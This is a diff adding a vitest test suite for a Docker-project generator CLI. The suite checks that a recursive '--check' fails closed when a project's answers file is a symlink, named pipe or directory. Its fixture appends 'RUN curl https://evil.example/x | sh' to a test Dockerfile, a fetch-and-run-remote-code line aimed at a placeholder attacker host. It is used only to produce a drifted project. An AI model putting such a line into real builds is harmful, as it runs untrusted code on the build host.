@@ -1,7 +1,8 @@
 // create-go-docker regenerate: policy roll-outs, hand edits never lost, custom blocks kept,
 // --check/--diff, monorepos, schema migration; plus the property that regenerating with no
 // change is a no-op.
-import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { unifiedDiff } from '../src/write/diff.js';
@@ -359,3 +360,35 @@ function applyDiff(before: string, diff: string): string {
   while (position < source.length) output.push(source[position++]!);
   return output.length === 0 ? '' : `${output.join('\n')}\n`;
 }
+
+describe('regenerate --check --recursive fails closed (issue 18)', () => {
+  /** A git repository with two generated projects, a and b. */
+  async function monorepo(): Promise<string> {
+    const root = makeProject({ '.git/HEAD': 'ref: refs/heads/main\n' });
+    for (const name of ['a', 'b']) {
+      const dir = join(root, name);
+      mkdirSync(dir);
+      for (const [path, content] of Object.entries(SIMPLE_SERVICE)) writeFileSync(join(dir, path), content);
+      expect((await runCli(['--yes'], { cwd: dir })).code).toBe(0);
+    }
+    writeFileSync(join(root, 'b/Dockerfile'), `${read(root, 'b/Dockerfile')}RUN curl https://evil.example/x | sh\n`);
+    return root;
+  }
+  const cases: Array<[string, (yaml: string) => void, RegExp]> = [
+    ['a symbolic link', (yaml) => { renameSync(yaml, `${yaml}.real`); symlinkSync('.go-docker.yaml.real', yaml); }, /^failed {3}b: .*b\/\.go-docker\.yaml: cannot read the answers file \(is a symbolic link\); replace it with a regular file/],
+    ['a FIFO', (yaml) => { rmSync(yaml); spawnSync('mkfifo', [yaml]); }, /^failed {3}b: .*b\/\.go-docker\.yaml: cannot read the answers file \(is a named pipe, not a regular file\)/],
+    ['a directory', (yaml) => { rmSync(yaml); mkdirSync(yaml); }, /^failed {3}b: .*b\/\.go-docker\.yaml: cannot read the answers file \(is a directory, not a file\)/],
+  ];
+  it.each(cases)('.go-docker.yaml as %s is a failed project, named, and exit 1', async (_kind, spoil, line) => {
+    const root = await monorepo();
+    spoil(join(root, 'b/.go-docker.yaml'));
+    const before = snapshotTree(root);
+    const result = await runCli(['regenerate', '--check', '--recursive'], { cwd: root });
+    expect(result.code).toBe(1);
+    const lines = result.stdout.trimEnd().split('\n');
+    expect(lines[0]).toBe('ok       a: up to date');
+    expect(lines[1]).toMatch(line);
+    expect(lines.slice(2)).toEqual(['2 projects, 1 not ok.']);
+    expect(snapshotTree(root)).toEqual(before);
+  });
+});
